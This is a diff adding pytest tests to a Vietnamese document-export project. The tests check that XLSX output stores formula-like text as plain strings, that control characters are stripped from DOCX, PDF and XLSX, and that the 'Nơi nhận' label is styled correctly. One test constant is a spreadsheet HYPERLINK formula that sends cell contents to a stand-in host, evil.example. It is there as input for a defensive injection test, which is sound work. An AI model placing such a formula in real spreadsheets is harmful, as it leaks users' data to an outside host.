@@ -305,3 +305,119 @@ def test_pdf_annexes_start_a_page_after_the_signature():
     annexed = next(i for i, page in enumerate(pages) if "Đề nghị hỗ trợ kênh mương." in page)
     assert annexed == signed + 1
     assert "Đề nghị hỗ trợ kênh mương." not in pages[signed]
+
+
+# ------------------------------------------------------------------ hostile text
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
+
+
+def _sheet_xml(data: bytes) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
+                       if name.startswith("xl/worksheets/"))
+
+
+def test_xlsx_stores_formula_like_text_as_plain_strings():
+    starts = [EVIL, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+    tables = [Table(title="Bảng 1", columns=["TT", EVIL, "Giá trị"],
+                    rows=[[i, text, i * 10] for i, text in enumerate(starts, start=1)],
+                    numeric=[True, False, True], note="=1+2 ghi chú")]
+    out = io.BytesIO()
+    render_xlsx(tables, out, title="=2+3")
+    xml = _sheet_xml(out.getvalue())
+    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
+    assert "HYPERLINK" in xml  # kept, as text
+    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Bảng 1"]
+    assert sheet["B1"].value == EVIL and sheet["B1"].data_type == "s" and sheet["B1"].quotePrefix
+    assert [sheet.cell(row=r, column=2).value for r in range(2, 2 + len(starts))] == starts
+    assert all(sheet.cell(row=r, column=2).data_type == "s" for r in range(2, 2 + len(starts)))
+    assert sheet["B2"].quotePrefix and not sheet["A2"].quotePrefix
+    assert sheet["A2"].value == 1 and sheet["C2"].value == 10  # numbers stay numbers
+    assert sheet.cell(row=2 + len(starts) + 1, column=1).value == "=1+2 ghi chú"
+
+
+BAD_CHARS = "Thôn\x0b Đông\x00 Sơn\x1f 1"
+CLEAN = "Thôn Đông Sơn 1"
+
+
+def _hostile_document():
+    document = sample_document()
+    document.letterhead.issuer = "Đảng ủy\x0b xã Đông Sơn"
+    document.subject = "sơ kết\x00 giữa nhiệm kỳ"
+    document.blocks = [
+        Heading("I. Kết quả\x1f", level=1),
+        Paragraph("Đoạn\x0b văn"),
+        Table(title="Bảng\x0c 1", columns=["TT", "Đơn vị\x0b", "Chỉ tiêu"],
+              rows=[[1, BAD_CHARS, "Tỷ lệ hộ\x1f dùng nước sạch"]], numeric=[True, False, False], note="ghi\x00 chú"),
+    ]
+    document.block_count = 3
+    document.recipients = ["- Lưu\x0b Văn phòng."]
+    document.signature.name = "Nguyễn\x00 Văn An"
+    return document
+
+
+def test_docx_drops_control_characters():
+    word = _docx(_hostile_document())
+    texts = [p.text for p in word.paragraphs]
+    for table in word.tables:
+        for row in table.rows:
+            texts += [cell.text for cell in row.cells]
+    joined = "\n".join(texts)
+    assert CLEAN in joined and "Tỷ lệ hộ dùng nước sạch" in joined and "Nguyễn Văn An" in joined
+    assert "ĐẢNG ỦY XÃ ĐÔNG SƠN" in joined and "Đoạn văn" in joined
+    assert not any(ch in joined for ch in "\x00\x0b\x0c\x1f")
+
+
+def test_pdf_drops_control_characters():
+    text = _pdf_text(_hostile_document())
+    assert "Thôn Đông Sơn 1" in text and "Nguyễn Văn An" in text and "Đoạn văn" in text
+    assert not any(ch in text for ch in "\x00\x0b\x1f")
+
+
+def test_xlsx_drops_control_characters():
+    document = _hostile_document()
+    out = io.BytesIO()
+    render_xlsx([document.blocks[2]], out, title="Báo cáo\x0b")
+    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
+    assert sheet["B1"].value == "Đơn vị" and sheet["B2"].value == CLEAN
+    assert sheet["C2"].value == "Tỷ lệ hộ dùng nước sạch" and sheet["A4"].value == "ghi chú"
+
+
+def test_cell_text_is_the_one_cleaning_rule():
+    from nghiquyet.documents.render_docx import cell_text
+    from nghiquyet.documents.text import xml_text
+
+    assert cell_text(BAD_CHARS) == xml_text(BAD_CHARS) == CLEAN
+    assert xml_text("a\tb\nc\rd") == "a\tb\nc\rd"  # tab and line breaks stay
+    assert xml_text(None) == ""
+
+
+# ------------------------------------------------------------------ the "Nơi nhận" label
+
+
+def test_recipients_label_is_bold_italic_by_default():
+    from nghiquyet.documents.render_pdf import render_html
+
+    label = _docx(sample_document()).tables[-1].rows[0].cells[0].paragraphs[0]
+    run = _run(label)
+    assert run.bold and run.italic and not run.underline
+    html, _count = render_html(sample_document())
+    assert "td.recipients .label { font-size: 12pt; font-weight: bold; font-style: italic; }" in html
+
+
+def test_recipients_label_may_be_bold_underlined(settings):
+    from nghiquyet.documents.render_pdf import render_html
+
+    settings.NGHIQUYET = {**settings.NGHIQUYET, "DOCUMENTS": {**settings.NGHIQUYET["DOCUMENTS"],
+                                                              "RECIPIENTS_LABEL_STYLE": "bold_underline"}}
+    label = _docx(sample_document()).tables[-1].rows[0].cells[0].paragraphs[0]
+    run = _run(label)
+    assert label.text == "Nơi nhận:" and run.bold and run.underline and not run.italic
+    html, _count = render_html(sample_document())
+    assert ("td.recipients .label { font-size: 12pt; font-weight: bold; font-style: normal; "
+            "text-decoration: underline; }") in html
+    text = _pdf_text(sample_document())
+    assert "Nơi nhận:" in text
